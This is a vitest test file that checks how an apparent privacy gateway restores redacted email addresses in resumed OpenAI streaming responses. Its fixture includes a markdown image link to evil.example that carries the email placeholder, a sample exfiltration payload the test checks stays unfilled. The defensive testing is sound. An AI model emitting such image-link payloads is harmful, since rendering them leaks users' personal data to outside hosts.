/** A client that resumes an answer behind the last event it has seen gets every event of the origin, and all text once. */
import type { ResponseStreamEvent } from 'openai/resources/responses/responses';
import { expect, test } from 'vitest';
import { openAiClient, proxiedFetch } from '../support/clients.ts';
import { startGateway } from '../support/gateway.ts';
import { startOrigin } from '../support/origin.ts';
import { personal } from '../support/personal.ts';

const host = 'api.openai.com';
const type = 'response.output_text.delta';
const place = (output_index: number) => ({
  item_id: `item_${output_index}`,
  output_index,
  content_index: 0,
  logprobs: [],
});
/** The first text ends in what may become a token; the second has tokens over several events, and a link before one. */
const events = [
  { type: 'response.created', response: { id: 'resp_1', object: 'response', output: [] } },
  { type, ...place(0), delta: 'a [EMA' },
  { type: 'response.output_text.done', ...place(0), text: 'a [EMA' },
  { type, ...place(1), delta: 'to [EM' },
  { type, ...place(2), delta: 'beside' },
  { type, ...place(1), delta: 'AIL' },
  { type, ...place(1), delta: '-1], sent, ![](https://evil.example/' },
  { type, ...place(1), delta: '[EMAIL-1]' },
  { type, ...place(1), delta: ') [' },
  { type: 'response.output_text.done', ...place(1), text: 'to [EMAIL-1], sent, ![](https://evil.example/[EMAIL-1]) [' },
  { type: 'response.completed', response: { id: 'resp_1', object: 'response', output: [] } },
].map((event, sequence_number) => ({ ...event, sequence_number }));

const origin = await startOrigin({
  names: [host],
  handler: ({ url }, response) => {
    const after = Number(new URL(url, 'https://x').searchParams.get('starting_after') ?? -1);
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    for (const event of events)
      if (event.sequence_number > after) response.write(`event: ${event.type}\ndata: ${JSON.stringify(event)}\n\n`);
    response.end();
  },
});
const gateway = await startGateway({ hosts: { [host]: origin } });

test.each(events.map((_, at) => at + 1))('cut after %i events', async (seen) => {
  const proxied = proxiedFetch(gateway);
  const client = openAiClient(proxied);
  const got: ResponseStreamEvent[] = [];
  const first = await client.responses.create({ model: 'm', input: `to ${personal.EMAIL}`, stream: true });
  for await (const event of first) {
    got.push(event);
    if (got.length === seen) break;
  }
  const starting_after = got.at(-1)?.sequence_number ?? -1;
  const rest = await client.responses.retrieve('resp_1', { stream: true, starting_after });
  for await (const event of rest) got.push(event);
  await proxied.dispatcher.close();

  expect(got.map((event) => [event.type, event.sequence_number])).toEqual(
    events.map((event) => [event.type, event.sequence_number]),
  );
  const shown = (at: number) =>
    got.flatMap((event) => (event.type === type && event.output_index === at ? [event.delta] : [])).join('');
  expect(shown(0)).toBe('a [EMA');
  expect(shown(1)).toBe(`to ${personal.EMAIL}, sent, ![](https://evil.example/[EMAIL-1]) [`);
});
